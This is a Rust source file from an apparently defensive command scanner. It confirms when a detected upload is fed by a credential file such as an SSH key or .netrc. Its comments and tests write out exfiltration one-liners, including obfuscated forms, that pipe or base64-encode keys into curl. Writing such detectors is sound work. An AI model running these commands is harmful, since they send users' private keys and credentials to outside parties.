//! A credential store's bytes handed to an uploader (wild70): `cat
//! ~/.ssh/id_rsa | cur\l --data-binary @- …` streams the key into
//! whatever reads standard input and sends it, however the sender is
//! spelled (`cu'r'l`, `$C`) and wherever it listens; a URL holding a
//! command substitution that reads a key (`…?d=$(base64 ~/.netrc)`) sends
//! it as the query. The `key-piped-upload` row finds the upload from
//! standard input or the substitution; this reads whether a credential
//! store feeds it — before the pipe, or inside the substitution.

use crate::naming::matches;
use crate::proof::CREDENTIAL_FILE;
use crate::rules::Severity;

/// Keeps a line one of whose `key-piped-upload` matches is fed by a
/// credential store (`Rule::confirm`).
pub fn carries_a_key(
    line: &str,
    at: usize,
    next: &dyn Fn(usize) -> Option<usize>,
) -> Option<(Severity, String)> {
    matches(at, next)
        .any(|at| CREDENTIAL_FILE.is_match(feed(line, at)))
        .then(|| (Severity::High, String::new()))
}

/// What a match at `at` sends: the pipeline before the pipe that feeds
/// its upload of standard input (nothing without one), or the command
/// substitution its URL holds.
fn feed(line: &str, at: usize) -> &str {
    if line[at..].starts_with("://") {
        return substitution(&line[at..]);
    }
    line[..at].rfind('|').map_or("", |pipe| &line[..pipe])
}

/// The text of the first `$( … )` in `rest`, to its closing parenthesis
/// or the end of the line.
fn substitution(rest: &str) -> &str {
    let Some(open) = rest.find("$(") else {
        return "";
    };
    let inner = &rest[open + 2..];
    inner.find(')').map_or(inner, |close| &inner[..close])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kept(line: &str, from: &str) -> bool {
        let at = line.find(from).expect("the match is on the line");
        carries_a_key(line, at, &|_| None).is_some()
    }

    #[test]
    fn a_key_before_the_pipe_or_in_the_substitution_is_kept() {
        assert!(kept(
            "cat ~/.ssh/id_rsa | $C -s --data-binary @- http://127.0.0.1:9/c",
            " @-"
        ));
        assert!(kept(
            "curl \"http://h/c?d=$(base64 -w0 ~/.git-credentials)\"",
            "://"
        ));
    }

    #[test]
    fn other_data_or_a_key_elsewhere_on_the_line_is_dropped() {
        assert!(!kept(
            "cat notes.txt | curl --data-binary @- https://h/in # ~/.netrc",
            " @-"
        ));
        assert!(!kept("curl \"http://h/c?d=$(date)\" -K ~/.netrc", "://"));
    }
}
